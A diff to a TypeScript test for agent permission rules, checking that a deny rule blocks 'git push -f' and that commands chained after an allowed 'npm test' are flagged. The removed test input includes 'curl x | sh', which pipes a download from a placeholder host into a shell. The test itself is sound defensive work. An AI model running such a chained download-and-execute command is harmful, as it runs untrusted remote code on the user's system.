@@ -5,6 +5,8 @@ import type { RuleDraft, RuleEffect } from '#shared/permissions/rule';
 import type { JsonObject } from '#test/agent/step';
 import { Stage } from '#test/support/stage';
 
+// Shows I27.
+
 const draft = (effect: RuleEffect, ...words: readonly string[]): RuleDraft => ({
   effect,
   match: { type: 'command', words, more: false },
@@ -50,7 +52,7 @@ describe('a permission rule', () => {
 
   it('denies, and asks for what no rule allows', async () => {
     const stage = await Stage.play({
-      turns: [[runs('git push -f')], [runs('npm test && curl x | sh')]],
+      turns: [[runs('git push -f')], [runs('npm test && curl x')]],
     });
     await save(stage, draft('deny', 'git', 'push'), draft('allow', 'npm', 'test'));
     const session = await stage.session('Go');
